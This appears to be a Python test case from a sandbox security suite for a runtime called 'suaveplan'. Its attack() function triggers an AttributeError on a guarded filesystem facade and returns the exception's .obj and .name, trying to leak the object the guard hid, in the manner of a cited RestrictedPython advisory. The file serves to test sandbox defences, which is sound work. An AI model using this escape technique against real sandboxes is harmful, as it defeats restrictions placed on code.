# mypy: ignore-errors
# ruff: noqa: B009
# Technique: read `.obj` / `.name` of an AttributeError raised by the runtime's guarded getattr
# on a facade, hoping it carries the facade's hidden content.
# Advisory: CVE-2024-47532 (RestrictedPython: AttributeError.obj leaked the object a guard
# refused)
from suaveplan import fs


def attack(secret_path, canary_path):
    try:
        getattr(fs, "no_such")
    except AttributeError as e:
        return [repr(e.obj), repr(e.name)]
    return None
